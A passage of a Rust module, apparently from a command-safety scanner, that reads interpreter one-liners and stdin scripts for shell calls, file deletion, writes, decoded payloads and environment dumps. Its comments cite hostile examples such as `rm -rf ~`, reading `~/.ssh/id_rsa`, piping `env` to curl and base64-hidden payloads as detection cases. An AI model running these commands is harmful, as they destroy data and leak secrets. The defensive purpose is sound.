//! Code given to a script interpreter, on its command line (`python3 -c`, `node -e` and
//! TypeScript's `tsx -e` and `ts-node -e`, `perl -e`,
//! `ruby -e`, `php -r`, `lua -e`, `expect -c`, `julia -e`/`-E`, `Rscript -e`, `R -e`, `groovy
//! -e`, `scala -e`, `kotlin -e`, `elixir -e`, `mix run -e`, `erl -eval`) or on its
//! standard input (`python3 - <<'EOF'`, `echo … | node`, `tclsh <<< …`, `lua -`), and what that
//! code hands to a shell or names as a file.
//!
//! A small scanner, not a parser of Python or JavaScript. It finds the calls that run a shell
//! or a program (`os.system`, `subprocess.run`, `execSync`, `spawn`, Perl's and Ruby's `system`,
//! backquotes and `qx`, PHP's `shell_exec`, a pipe `open`, Lua's `os.execute` and `io.popen`,
//! R's `system`, `system2`, `shell` and `pipe`, …) and reads their arguments:
//!
//! - a string is shell text (`os.system("rm -rf ~")`);
//! - a list, or further string arguments, is an argv (`subprocess.run(["rm", "-rf", "/"])`,
//!   `system("rm", "-rf", $dir)`);
//! - anything else in the command is a run-time part (`os.system("rm -rf " + home)` is
//!   `rm -rf $X`), as are interpolations (`f"rm -rf {home}"`, `"#{dir}"`, `` `${dir}` ``) and
//!   format placeholders (`"rm -rf %s" % home`).
//!
//! - `os.exec*`, `os.spawn*` and `os.posix_spawn*` run their path with `argv[1:]`, as do Perl's
//!   `exec {PROG} LIST` and Ruby's `system([prog, argv0], …)`;
//! - R's `system2("prog", c("arg", …))` pastes its words together for a shell, unquoted;
//!   `processx::run("prog", c(…))` and `sys::exec_wait` run an argv;
//! - a Julia command literal (`` `rm -rf $dir` ``, in `run`, `read`, `success`, `pipeline`) is an
//!   argv Julia splits as a shell would without running one, read as the command it runs
//!   wherever it stands (Julia makes one to run it), a leading `~` the home directory as its
//!   author means it; `Cmd(["rm", …])` is an argv too;
//! - Tcl and expect (`tclsh`, `wish`, `expect`) are read by [`tcl`], a reader of Tcl's words:
//!   `exec` and `spawn` run an argv, a pipe `open "|…"` too, expect's `system` runs shell text;
//! - removal through a library (`shutil.rmtree`, `os.remove`, `Path(…).unlink()`, `fs.rmSync`,
//!   `FileUtils.rm_rf`, Perl's `rmtree` and `unlink`, PHP's `unlink`, Lua's `os.remove`,
//!   Julia's `rm(p; recursive = true)`, R's `unlink` and `file.remove`, Tcl's `file delete`)
//!   is the `rm -rf`, `rm -f` or `rmdir` it amounts to, its operands read as path expressions
//!   (see [`path_value`]);
//! - a write through a library (`open(p, 'a')`, pathlib's `write_text`, `fs.writeFileSync`,
//!   `fs.appendFileSync`, Perl's `open(F, ">>…")`, `File.write`, `file_put_contents`, `fopen`,
//!   `io.open`, R's `writeLines` and `cat(file =)`, Julia's `write`) is
//!   `printf %s "$X" > PATH`, or `>>` when it keeps the contents; a copy or move
//!   (`shutil.copy`, `os.rename`, `fs.copyFileSync`, `FileUtils.cp`, PHP's `copy`) is
//!   `cp -- SRC DST` or `mv -- SRC DST` (see [`write`]), so that the rules about writing files
//!   judge them as the shell's.
//!
//! - literals the code decodes (`base64.b64decode('…')`, `'~ fr- mr'[::-1]`,
//!   `String.fromCharCode(…)`, `urllib.parse.unquote('rm%20-rf%20~')`, `decodeURIComponent`,
//!   `urldecode`, see [`decode`]) are the text they decode to; a command string decoded at run
//!   time (`os.system(b64decode(data))`) is the shell running what a decoder makes
//!   (`sh -c "$(base64 -d <<< "$X")"`, `"$(urlencode -d "$X")"` for percent-encoding), which the
//!   baseline pack reports as a hidden payload;
//! - code the program runs as its own language (Python's `exec`, JavaScript's `eval` and
//!   `Function`, Ruby's, Perl's and PHP's `eval`, Lua's `load`, Julia's
//!   `eval(Meta.parse(…))`, R's `eval(parse(text = …))`) is read again when it is literal, to a
//!   depth of [`MAX_EVAL_DEPTH`]; decoded at run time, it is the interpreter running a decoder's
//!   output (`python3 -c "$(base64 -d <<< "$X")"`).
//!
//! String escapes are read per language and quote (Lua's decimal `\126`, its long strings
//! `[[…]]` and `--[[…]]` comments; Julia's `$` interpolation and `#= =#` comments; R's raw
//! strings `r"(…)"`); names bound in the code (`import os as o`,
//! `from os import system as s`, `s = os.system`) stand for what they name. A call whose
//! command holds no literal text at all (`os.system(cmd)`, `shutil.rmtree(tmp)`) is not looked
//! into, as a script file given to the interpreter is not, nor is a write to a path without
//! one (`open(p, 'w')`). The file names the code reads are
//! its literals and, built on a run-time home, `~/…` (`Path.home() / '.ssh' / 'id_rsa'`).

use std::collections::HashMap;

use self::decode::Decoding;
use super::exec::{Nested, PROCESS_SUBSTITUTION_READ, SHELLS};
use super::parse::{Budget, STEP};
use super::{Origin, SimpleCommand};
use crate::argv::Parsed;

mod callee;
mod decode;
pub(super) mod lisp;
mod tcl;
mod write;

/// Most shell commands followed in one program's code; past that, the rest is only known at
/// run time.
const MAX_COMMANDS: usize = 16;

/// The fuel a token of interpreter code costs each time a call's arguments are read: it is
/// copied, and its text put into the command (see [`Budget::burn`]).
const TOKEN: u64 = 16;

/// How deep code run by the program's own `exec`/`eval` is read (`exec("exec('…')")`); deeper
/// code is a hidden payload.
const MAX_EVAL_DEPTH: usize = 3;

/// A run-time part of a command (see the module documentation).
const RUN_TIME: &str = "$X";

/// What code that computes the function it calls, or evaluates a string it computes, hands to a
/// shell, as far as the command line says: anything (`getattr(os, name)(…)`, `eval(input())`,
/// `obj['ex' + 'ec'](…)`, Ruby's `send(m, …)`, Perl's `&$f(…)`).
const COMPUTED: &str = "sh -c \"$X\"";

/// Whether the program is a shell or a script interpreter.
pub(crate) fn is_interpreter(name: &str) -> bool {
    SHELLS.contains(&name)
        || name.starts_with("python")
        || name.starts_with("pypy")
        || is_lua(name)
        || is_tcl(name)
        || matches!(
            name,
            "perl"
                | "ruby"
                | "node"
                | "nodejs"
                | "tsx"
                | "ts-node"
                | "ts-node-esm"
                | "esno"
                | "php"
                | "pwsh"
                | "powershell"
                | "bun"
                | "deno"
                | "osascript"
                | "julia"
                | "R"
                | "Rscript"
                | "irb"
                | "jshell"
                | "groovy"
                | "scala"
                | "scala-cli"
                | "kotlin"
                | "kotlinc"
                | "kotlinc-jvm"
                | "elixir"
                | "iex"
                | "erl"
                | "ghc"
                | "ghci"
                | "runghc"
                | "runhaskell"
                | "octave"
                | "octave-cli"
                | "gnuplot"
        )
        || is_native(name)
}

/// Interpreters of languages that are mostly compiled: Swift's `swift` (`-e`, a script, stdin),
/// the Tiny C Compiler's `tcc` (`-run`), cling (C++), yaegi (Go) and dotnet-script (C#).
fn is_native(name: &str) -> bool {
    matches!(name, "swift" | "tcc" | "cling" | "yaegi" | "dotnet-script")
}

/// `lua`, `luajit` and versioned names (`lua5.4`, `lua54`); not `luac` or `luarocks`.
fn is_lua(name: &str) -> bool {
    name == "luajit" || name.strip_prefix("lua").is_some_and(is_version)
}

/// `tclsh` and `wish` (versioned too: `tclsh8.6`), and expect, which is Tcl with `spawn`.
fn is_tcl(name: &str) -> bool {
    name == "expect"
        || name
            .strip_prefix("tclsh")
            .or_else(|| name.strip_prefix("wish"))
            .is_some_and(is_version)
}

/// A version suffix of a program name: digits and dots, or nothing.
fn is_version(suffix: &str) -> bool {
    suffix.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

/// Whether an interpreter reads its program from stdin: no program operand (or `-`), no code
/// option, or a shell's `-s`.
pub(crate) fn reads_program_from_stdin(name: &str, args: &[String]) -> bool {
    if !is_interpreter(name) {
        return false;
    }
    if name == "deno" {
        return match deno_program(args) {
            DenoProgram::Script(script) => is_stdin_program(script),
            DenoProgram::Repl => true,
            DenoProgram::Other => false,
        };
    }
    let parsed = interpreter_options(name, args);
    if parsed.has(&['s'], &[]) && SHELLS.contains(&name) {
        return true;
    }
    if parsed.has(&['c', 'e', 'm', 'E'], &["eval", "command", "print"]) {
        return false;
    }
    // What follows `-` is the program's own arguments (`python3 - "$FILE" <<'EOF'`).
    parsed
        .operands
        .first()
        .is_none_or(|first| is_stdin_program(first))
}

/// Whether a program operand names standard input.
fn is_stdin_program(operand: &str) -> bool {
    matches!(
        operand,
        "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
    )
}

/// What `deno ARGS` runs.
enum DenoProgram<'a> {
    /// A program file or URL: `deno run [OPTIONS] SCRIPT`, `deno serve SCRIPT`, or Deno 2's
    /// `deno SCRIPT`.
    Script(&'a str),
    /// The REPL, with no arguments at all.
    Repl,
    /// A subcommand that runs no program of its own choosing (`deno fmt`), or `deno eval`.
    Other,
}

/// Deno's options that take a separate value, before its program (`deno run -c deno.json x.ts`).
const DENO_VALUED: &[&str] = &[
    "config",
    "import-map",
    "cert",
    "location",
    "log-level",
    "seed",
    "ext",
    "preload",
];

/// What `deno ARGS` runs (see [`DenoProgram`]).
fn deno_program(args: &[String]) -> DenoProgram<'_> {
    let parsed = Parsed::new(args, &['c', 'L'], DENO_VALUED);
    match parsed.operands.as_slice() {
        [] if args.is_empty() => DenoProgram::Repl,
        ["run" | "serve", script, ..] => DenoProgram::Script(script),
        [script, ..] if script.contains(['.', '/']) => DenoProgram::Script(script),
        _ => DenoProgram::Other,
    }
}

/// The script file an interpreter runs (`python3 -u x.py`, `node x.js`): its first operand,
/// when no code option gives the program and it does not read it from stdin; for Python's `-m
/// MODULE`, the module's file in the working directory (`-m x` runs `x.py`, `-m a.b` `a/b.py`).
/// Not for shells, whose script operands the shell analysis reads itself.
pub(crate) fn script_operand(name: &str, args: &[String]) -> Option<String> {
    if !is_interpreter(name) || SHELLS.contains(&name) || reads_program_from_stdin(name, args) {
        return None;
    }
    // Deno's first operand is a subcommand (`deno run main.ts`).
    if name == "deno" {
        return match deno_program(args) {
            DenoProgram::Script(script) => Some(script.to_owned()),
            DenoProgram::Repl | DenoProgram::Other => None,
        };
    }
    if !code(name, args, None).is_empty() {
        return None;
    }
    let parsed = interpreter_options(name, args);
    if Lang::of(name) == Lang::Python
        && let Some(module) = parsed.values(&['m'], &[]).first()
    {
        return Some(format!("{}.py", module.replace('.', "/")));
    }
    if parsed.has(&['m', 'E'], &["print"]) {
        return None;
    }
    parsed.operands.first().map(|operand| (*operand).to_owned())
}

/// The program an interpreter reads from a process substitution, which only the run time knows:
/// its script operand (`python3 <(curl …)`, `perl <(…) ARGS`) or, when it reads its program
/// from stdin, a `<(…)` redirected there (`python3 - < <(curl …)`), as `bash <(…)` is for a
/// shell.
pub(super) fn substituted_program(
    name: &str,
    args: &[String],
    stdin_substituted: bool,
) -> Option<Nested> {
    if SHELLS.contains(&name) || !code(name, args, None).is_empty() {
        return None;
    }
    let substituted = if reads_program_from_stdin(name, args) {
        stdin_substituted
    } else {
        script_operand(name, args).is_some_and(|operand| operand == PROCESS_SUBSTITUTION_READ)
    };
    substituted.then(|| Nested::Dynamic(PROCESS_SUBSTITUTION_READ.to_owned()))
}

/// The modules node (or bun) loads before its program: the values of `-r`, `--require`,
/// `--import`, `--loader`, `--experimental-loader` and bun's `--preload`, as written.
pub(super) fn node_preloads(name: &str, args: &[String]) -> Vec<String> {
    if Lang::of(name) != Lang::JavaScript {
        return Vec::new();
    }
    let parsed = Parsed::new(
        args,
        &['r', 'e', 'p'],
        &[
            "require",
            "import",
            "loader",
            "experimental-loader",
            "preload",
            "eval",
            "print",
        ],
    );
    parsed
        .values(
            &['r'],
            &[
                "require",
                "import",
                "loader",
                "experimental-loader",
                "preload",
            ],
        )
        .into_iter()
        .map(str::to_owned)
        .collect()
}

/// An interpreter's arguments, read with the options of the interpreters that take a value.
fn interpreter_options<'a>(name: &str, args: &'a [String]) -> Parsed<'a> {
    let valued: Vec<char> = [
        &['c', 'e', 'm', 'W', 'X', 'r', 'I', 'o', 'O'][..],
        Lang::of(name).valued_flags(),
    ]
    .concat();
    Parsed::new(
        args,
        &valued,
        &["eval", "require", "import", "rcfile", "init-file"],
    )
}

/// What an interpreter's code (`python3 -c CODE`, or CODE fed to its stdin) hands to a shell.
/// Reading it burns `budget`'s fuel; once that is out, what was read so far.
pub(super) fn nested(
    name: &str,
    args: &[String],
    stdin: Option<&str>,
    budget: &Budget,
) -> Vec<Nested> {
    let mut found = Vec::new();
    for code in code(name, args, stdin) {
        found.extend(
            shell_commands(&code, budget)
                .into_iter()
                .map(|text| Nested::Script {
                    text,
                    origin: Origin::Interpreter,
                }),
        );
    }
    super::embedded::cap(found, MAX_COMMANDS)
}

/// The shell text an interpreter's code hands to a shell (see [`nested`]), for rules that look
/// at what those commands print (`python3 -c 'os.system("env")' | curl -d @- …`). The code is
/// read again with the evaluation's `fuel`.
pub(crate) fn shell_scripts_of(simple: &SimpleCommand, fuel: &super::Fuel) -> Vec<String> {
    fuel.read(|budget| {
        code(simple.name(), simple.args(), simple.stdin_text.as_deref())
            .iter()
            .flat_map(|code| shell_commands(code, budget))
            .take(MAX_COMMANDS)
            .collect()
    })
}

/// The file names the code an interpreter runs reads (`open('.env')`): in a one-liner every
/// string literal without blanks; in a script fed on stdin, where names also stand in exclude
/// lists and existence checks, the first argument of a call that opens or reads a file.
pub(crate) fn string_literals_of(simple: &SimpleCommand) -> Vec<String> {
    let mut names = Vec::new();
    for code in code(simple.name(), simple.args(), simple.stdin_text.as_deref()) {
        if code.lang == Lang::Tcl {
            names.extend(tcl::file_names(code.text, code.from_stdin));
            continue;
        }
        let tokens = decode::decoded(tokens(&code), code.lang);
        for (at, token) in tokens.iter().enumerate() {
            let Token::Str { text, runs: false } = token else {
                continue;
            };
            let before = |back: usize| at.checked_sub(back).and_then(|i| tokens.get(i));
            let opened = || match (before(2), before(1)) {
                (Some(Token::Word(name)), Some(Token::Punct(b'('))) => {
                    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
                    READS.contains(&last.to_ascii_lowercase().as_str())
                }
                _ => false,
            };
            // `open('.env.test', 'w')` writes the file, reading nothing of it.
            let opener = || match before(2) {
                Some(Token::Word(name)) => {
                    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
                    matches!(
                        last.to_ascii_lowercase().as_str(),
                        "open" | "fopen" | "opensync"
                    )
                }
                _ => false,
            };
            let written = || {
                opener()
                    && matches!(before(1), Some(Token::Punct(b'(')))
                    && at.checked_sub(1).is_some_and(|paren| {
                        write::opens_without_reading(&call_args(&tokens, paren, code.lang))
                    })
            };
            if written() {
                continue;
            }
            if !text.contains(char::is_whitespace) && (!code.from_stdin || opened()) {
                // A format's placeholders are run-time parts (`'%s/.ssh/id_rsa' % home`).
                names.push(if text.contains(['%', '{']) {
                    placeholders(text)
                } else {
                    text.clone()
                });
            }
        }
        names.extend(home_names(&tokens, code.lang, code.from_stdin));
    }
    names
}

/// Whether the code an interpreter runs takes its whole environment, as `env` prints it:
/// Python's `os.environ` (or `.items()`, `.copy()`), Node's and Bun's `process.env`, Deno's
/// `Deno.env.toObject()`, Ruby's `ENV` (or `.to_h`, `.each`), Perl's `%ENV`, PHP's `getenv()`
/// and `$_ENV`, R's `Sys.getenv()`. One named variable (`os.environ["HOME"]`,
/// `process.env.HOME`, `ENV.fetch("X")`, `$ENV{HOME}`, `getenv("X")`) or a membership test
/// (`"CI" in os.environ`) is no listing, as `printenv HOME` is none.
pub(crate) fn lists_environment(simple: &SimpleCommand) -> bool {
    code(simple.name(), simple.args(), simple.stdin_text.as_deref())
        .iter()
        .filter(|code| code.lang != Lang::Tcl)
        .any(|code| {
            let tokens = tokens(code);
            (0..tokens.len()).any(|at| takes_whole_environment(&tokens, at, code.lang))
        })
}

/// The members of an environment mapping that read one named variable (or a few), not all.
const ONE_VARIABLE: &[&str] = &[
    "get",
    "pop",
    "setdefault",
    "update",
    "fetch",
    "key",
    "has_key",
    "include",
    "member",
    "delete",
    "store",
    "assoc",
    "slice",
    "values_at",
    "dig",
    "__getitem__",
    "__contains__",
    "__setitem__",
];

/// Whether the token at `at` stands for the whole environment mapping in `lang`.
fn takes_whole_environment(tokens: &[Token], at: usize, lang: Lang) -> bool {
    let token = |i: usize| tokens.get(i);
    let before = |back: usize| at.checked_sub(back).and_then(|i| tokens.get(i));
    let punct = |t: Option<&Token>, byte: u8| matches!(t, Some(Token::Punct(b)) if *b == byte);
    let Some(Token::Word(word)) = token(at) else {
        return false;
    };
    let indexed = punct(token(at + 1), b'[');
    let empty_call = punct(token(at + 1), b'(') && punct(token(at + 2), b')');
    match lang {
        Lang::Python => mapping_member(word, &["environ", "environb"])
            .is_some_and(|member| whole_mapping(member, indexed, tokens, at)),
        Lang::JavaScript => {
            matches!(word.as_str(), "process.env" | "Bun.env")
                && whole_mapping(None, indexed, tokens, at)
                || word == "Deno.env.toObject"
        }
        Lang::Ruby => mapping_member(word, &["ENV"])
            .filter(|_| word.starts_with("ENV"))
            .is_some_and(|member| whole_mapping(member, indexed, tokens, at)),
        Lang::Perl => word == "ENV" && punct(before(1), b'%'),
        Lang::Php => {
            (word == "getenv" && empty_call)
                || (matches!(word.as_str(), "$_ENV" | "$_SERVER") && !indexed)
        }
        Lang::R => word == "Sys.getenv" && empty_call,
        _ => false,
    }
}

/// Where a dotted name reaches one of `roots` (`os.environ.items` reaches `environ`): the
/// member it then names (`Some(Some("items"))`, `Some(None)` for the mapping itself), or
/// `None` when it names no root.
fn mapping_member<'w>(word: &'w str, roots: &[&str]) -> Option<Option<&'w str>> {
    let mut segments = word.split('.');
    segments.find(|segment| roots.contains(segment))?;
    Some(segments.next())
}

/// Whether a use of an environment mapping takes all of it: the mapping itself, neither
/// indexed (`environ["HOME"]`) nor tested for a name (`"CI" in environ`), or any member but
/// those that read one variable (`.items()` yes, `.get("HOME")` no).
fn whole_mapping(member: Option<&str>, indexed: bool, tokens: &[Token], at: usize) -> bool {
    match member {
        Some(member) => !ONE_VARIABLE.contains(&member),
        None => !indexed && !tested_for_a_name(tokens, at),
    }
}

/// Whether the token at `at` is the right side of a membership test (`"CI" in os.environ`,
/// `'X' in process.env`), not of a loop (`for k in os.environ`, `for (const k in process.env)`).
fn tested_for_a_name(tokens: &[Token], at: usize) -> bool {
    let before = |back: usize| at.checked_sub(back).and_then(|i| tokens.get(i));
    let word = |t: Option<&Token>, text: &str| matches!(t, Some(Token::Word(w)) if w == text);
    if !word(before(1), "in") {
        return false;
    }
    let loop_variable = matches!(before(2), Some(Token::Word(_)))
        && (["for", "const", "let", "var"]
            .iter()
            .any(|keyword| word(before(3), keyword))
            || matches!(before(3), Some(Token::Punct(b'('))));
    !loop_variable
}

/// Calls that open or read the file their first argument names.
const READS: &[&str] = &[
    "open",
    "fopen",
    "readfile",
    "readfilesync",
    "file_get_contents",
    "readlines",
    "read",
    "binread",
    "createreadstream",
    "slurp",
    "copyfile",
    "copyfilesync",
    "copy",
    "copy2",
    "copyfileobj",
];

/// The language of an interpreter, as far as the scanner cares.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lang {
    Python,
    Perl,
    Ruby,
    Php,
    JavaScript,
    Lua,
    /// Tcl and expect, read by [`tcl`] (a command language, not one of calls).
    Tcl,
    Julia,
    R,
    /// Groovy, Scala, Kotlin and Java's jshell: Java's library, and each one's way to run a
    /// string or a list (`"cmd".execute()`, `"cmd".!`).
    Jvm,
    Elixir,
    Erlang,
    /// Languages compiled before they run, given as code on a command line or on stdin (Swift's
    /// `swift -e`, `dotnet script eval`, C run by `tcc -run` or compiled from stdin and run):
    /// their C-like syntax and the library calls that run a program or remove a file.
    Native,
    /// Haskell (`ghc -e`, `runghc` on stdin): calls without parentheses (`callCommand "…"`).
    Haskell,
    /// Octave's and MATLAB's language (`octave --eval`).
    Octave,
    /// gnuplot's commands (`gnuplot -e`): `system("…")` and backquotes run a shell.
    Gnuplot,
    Other,
}

impl Lang {
    fn of(name: &str) -> Self {
        if name.starts_with("python") || name.starts_with("pypy") {
            Self::Python
        } else if name == "perl" {
            Self::Perl
        } else if matches!(name, "ruby" | "irb") {
            Self::Ruby
        } else if name.starts_with("php") {
            Self::Php
        } else if matches!(
            name,
            "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" | "ts-node-esm" | "esno"
        ) {
            Self::JavaScript
        } else if is_lua(name) {
            Self::Lua
        } else if is_tcl(name) {
            Self::Tcl
        } else if name == "julia" {
            Self::Julia
        } else if matches!(name, "R" | "Rscript") {
            Self::R
        } else if matches!(
            name,
            "groovy" | "scala" | "scala-cli" | "kotlin" | "kotlinc" | "kotlinc-jvm" | "jshell"
        ) {
            Self::Jvm
        } else if matches!(name, "elixir" | "iex" | "mix") {
            Self::Elixir
        } else if name == "erl" {
            Self::Erlang
        } else if is_native(name) {
            Self::Native
        } else if matches!(name, "ghc" | "ghci" | "runghc" | "runhaskell") {
            Self::Haskell
        } else if matches!(name, "octave" | "octave-cli" | "matlab") {
            Self::Octave
        } else if name == "gnuplot" {
            Self::Gnuplot
        } else {
            Self::Other
        }
    }

    /// The short options whose value is program text: Lua's `-e` (lua(1)), expect's `-c`
    /// (expect(1); tclsh and wish take none, their script is a file or stdin), Julia's `-e`
    /// and `-E` (`--eval`, `--print`), R's and Rscript's `-e`.
    fn code_flags(self) -> &'static [char] {
        match self {
            Self::Python => &['c'],
            Self::Perl => &['e', 'E'],
            Self::Ruby | Self::JavaScript | Self::Lua | Self::R => &['e'],
            Self::Php => &['r'],
            Self::Tcl => &['c'],
            Self::Julia => &['e', 'E'],
            // `groovy -e`, `scala -e`, `kotlin -e`; `elixir -e`, `iex -e`; erl's `-eval` is a
            // word of its own (see `code`).
            Self::Jvm | Self::Elixir => &['e'],
            Self::Erlang => &[],
            // `swift -e`, `ghc -e`, `gnuplot -e`; Octave's is `--eval` only.
            Self::Native | Self::Haskell | Self::Gnuplot => &['e'],
            Self::Octave => &[],
            Self::Other => &['c', 'e'],
        }
    }

    /// The long options whose value is program text.
    fn code_long(self) -> &'static [&'static str] {
        match self {
            Self::Julia => &["eval", "print"],
            Self::Lua | Self::Tcl | Self::R | Self::Erlang | Self::Native | Self::Gnuplot => &[],
            Self::Haskell | Self::Octave => &["eval"],
            // scala-cli's `--execute-script` and `--execute-scala` (its `-e`).
            Self::Jvm => &["execute-script", "execute-scala"],
            Self::Elixir => &["eval"],
            _ => &["eval", "command"],
        }
    }

    /// The other short options that take a value that is neither code nor the script, so that
    /// it is not read as the script: Lua's `-l mod`, expect's `-D` level, Julia's `-L`, `-J`,
    /// `-C`, `-t`, `-p`, `-H`, R's `-g` GUI and `-d` debugger. (A script file's option, expect's
    /// `-f` and R's `-f`, leaves its value an operand: the script.)
    fn valued_flags(self) -> &'static [char] {
        match self {
            Self::Lua => &['l'],
            Self::Tcl => &['D'],
            Self::Julia => &['L', 'J', 'C', 't', 'p', 'H'],
            Self::R => &['g', 'd'],
            // Octave's `-p DIR` (`--path`); ghc's `-o FILE`, `-i DIR` glued to their value.
            Self::Octave => &['p'],
            _ => &[],
        }
    }

    /// The command line that runs code in this language (`python3 -c`).
    fn runs_code(self) -> &'static str {
        match self {
            Self::Python => "python3 -c",
            Self::Perl => "perl -e",
            Self::Ruby => "ruby -e",
            Self::Php => "php -r",
            Self::JavaScript => "node -e",
            Self::Lua => "lua -e",
            Self::Tcl => "expect -c",
            Self::Julia => "julia -e",
            Self::R => "Rscript -e",
            Self::Jvm => "groovy -e",
            Self::Elixir => "elixir -e",
            Self::Erlang => "erl -eval",
            Self::Native => "swift -e",
            Self::Haskell => "ghc -e",
            Self::Octave => "octave --eval",
            Self::Gnuplot => "gnuplot -e",
            Self::Other => "sh -c",
        }
    }

    /// Whether backquotes run a command (Perl, Ruby, PHP) rather than quote a template.
    fn backquotes_run(self) -> bool {
        matches!(self, Self::Perl | Self::Ruby | Self::Php | Self::Gnuplot)
    }

    /// Whether `#` starts a comment (in Lua it is the length operator; Erlang's comments
    /// start with `%`).
    fn hash_comments(self) -> bool {
        !matches!(
            self,
            Self::JavaScript | Self::Lua | Self::Jvm | Self::Erlang | Self::Haskell
        )
    }

    /// Whether `//` and `/* */` are comments.
    fn slash_comments(self) -> bool {
        matches!(
            self,
            Self::JavaScript | Self::Php | Self::Jvm | Self::Native
        )
    }
}

/// Program text an interpreter is given.
struct Code<'a> {
    lang: Lang,
    text: &'a str,
    /// Whether it came on stdin (a whole script, not a one-liner).
    from_stdin: bool,
}

/// The program texts `name ARGS` runs: the values of its code options, or the text fed to its
/// stdin when it reads its program from there. Nothing for shells, whose scripts the shell
/// analysis follows itself.
fn code<'a>(name: &str, args: &'a [String], stdin: Option<&'a str>) -> Vec<Code<'a>> {
    // `mix run -e CODE` (`--eval`) runs Elixir in the project.
    if name == "mix" {
        let texts = match args.split_first() {
            Some((run, rest)) if run == "run" => Parsed::new(
                rest,
                &['e', 'r', 'p'],
                &["eval", "require", "preload-modules"],
            )
            .values(&['e'], &["eval"]),
            _ => Vec::new(),
        };
        return texts
            .into_iter()
            .map(|text| Code {
                lang: Lang::Elixir,
                text,
                from_stdin: false,
            })
            .collect();
    }
    // `dotnet script eval CODE` (`dotnet-script eval CODE`) runs C#.
    let dotnet = match (name, args.split_first()) {
        ("dotnet", Some((script, rest))) if script == "script" => Some(rest),
        ("dotnet-script", _) => Some(args),
        ("dotnet", _) => return Vec::new(),
        _ => None,
    };
    if let Some(rest) = dotnet {
        return match rest.split_first() {
            Some((eval, rest)) if eval == "eval" => rest
                .iter()
                .find(|arg| !arg.starts_with('-'))
                .map(|text| Code {
                    lang: Lang::Native,
                    text,
                    from_stdin: false,
                })
                .into_iter()
                .collect(),
            _ => Vec::new(),
        };
    }
    if !is_interpreter(name) || SHELLS.contains(&name) {
        return Vec::new();
    }
    let lang = Lang::of(name);
    let mut texts = if name == "deno" {
        deno_code(args)
    } else if lang == Lang::Erlang {
        // `erl -eval EXPRS`: a word of its own, as erl's other options are.
        args.windows(2)
            .filter(|pair| pair.first().is_some_and(|option| option == "-eval"))
            .filter_map(|pair| pair.get(1).map(String::as_str))
            .collect()
    } else if lang == Lang::JavaScript {
        javascript_code(args)
    } else {
        let valued: Vec<char> = [lang.code_flags(), lang.valued_flags()].concat();
        Parsed::new(args, &valued, lang.code_long()).values(lang.code_flags(), lang.code_long())
    };
    let from_stdin = texts.is_empty() && reads_program_from_stdin(name, args);
    if from_stdin {
        texts.extend(stdin);
    }
    texts
        .into_iter()
        .map(|text| Code {
            lang,
            text,
            from_stdin,
        })
        .collect()
}

/// Node's options that take a separate value (`--require x -e CODE`).
const NODE_VALUED: &[&str] = &[
    "-r",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
    "-C",
    "--conditions",
    "--input-type",
    "--title",
    "--env-file",
    "--stack-size",
    // ts-node's and tsx's.
    "-P",
    "--project",
    "-O",
    "--compiler-options",
    "--tsconfig",
];

/// Deno's program text: `deno eval [OPTIONS] CODE` (its options take no separate value but
/// `--ext`); `deno run main.ts` runs a file.
fn deno_code(args: &[String]) -> Vec<&str> {
    let Some(("eval", rest)) = args.split_first().map(|(sub, rest)| (sub.as_str(), rest)) else {
        return Vec::new();
    };
    let mut iter = rest.iter().map(String::as_str);
    while let Some(arg) = iter.next() {
        if arg == "--ext" {
            iter.next();
        } else if !arg.starts_with('-') {
            return vec![arg];
        }
    }
    Vec::new()
}

/// Node's program text: `-e CODE`, `-p CODE`, `-pe CODE`, `-p -e CODE`, `--eval=CODE`,
/// `--print CODE` (`-p` prints what `-e` gives, or takes the code itself).
fn javascript_code(args: &[String]) -> Vec<&str> {
    let takes_code = |arg: &str| matches!(arg, "-e" | "-p" | "-pe" | "-ep" | "--eval" | "--print");
    let mut texts = Vec::new();
    let mut iter = args.iter().map(String::as_str).peekable();
    while let Some(arg) = iter.next() {
        if let Some(code) = arg
            .strip_prefix("--eval=")
            .or_else(|| arg.strip_prefix("--print="))
        {
            texts.push(code);
        } else if takes_code(arg) && iter.peek().is_some_and(|next| !takes_code(next)) {
            texts.extend(iter.next());
        } else if NODE_VALUED.contains(&arg) {
            iter.next();
        } else if !arg.starts_with('-') {
            break;
        }
    }
    texts
}

/// The shell commands `code` runs; at most one more than [`MAX_COMMANDS`].
fn shell_commands(code: &Code<'_>, budget: &Budget) -> Vec<String> {
    if code.lang == Lang::Tcl {
        // The Tcl reader's own bounds (its nesting, the commands it reads) keep its work a few
        // times the text's length.
        if !budget.burn_text(code.text) {
            return Vec::new();
        }
        return tcl::shell_commands(code.text);
    }
    let mut found = shell_commands_at(code, 0, budget);
    if code.lang == Lang::Gnuplot {
        found.extend(gnuplot_escapes(code.text));
    }
    found
}

/// gnuplot's shell escapes: a command (after a line break or `;`) that starts with `!` hands
/// the rest of its line to a shell (`gnuplot -e '!rm -rf ~'`).
fn gnuplot_escapes(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in text.lines() {
        let mut rest = line;
        loop {
            if let Some(shell) = rest.trim_start().strip_prefix('!') {
                // The shell gets the rest of the line, `;` and all.
                if !shell.trim().is_empty() {
                    found.push(shell.trim().to_owned());
                }
                break;
            }
            match rest.split_once(';') {
                Some((_, after)) => rest = after,
                None => break,
            }
        }
    }
    found
}

/// The shell text a shell (`sh -c`) or an interpreter (`python3 -c`, see [`Lang::runs_code`])
/// is given when it runs what `decoding` makes of a run-time value.
fn decoded_run(runs: &str, decoding: Decoding) -> Option<String> {
    decoded_word(decoding).map(|word| format!("{runs} {word}"))
}

/// What `decoding` makes of a run-time value, as one shell word: `"$(base64 -d <<< "$X")"`,
/// `"$(urlencode -d "$X")"`.
fn decoded_word(decoding: Decoding) -> Option<String> {
    let decoder = decoding.shell_decoding(&format!("\"{RUN_TIME}\""))?;
    Some(format!("\"$({decoder})\""))
}

/// [`shell_commands`] of code that the program's `exec`/`eval` runs `depth` levels down.
fn shell_commands_at(code: &Code<'_>, depth: usize, budget: &Budget) -> Vec<String> {
    // Tokenising the code, and each pass over its tokens.
    if !budget.burn(STEP + 4 * code.text.len() as u64) {
        return Vec::new();
    }
    let subprocess = code.text.contains("subprocess");
    let tokens = resolve_aliases(tokens(code), |word| {
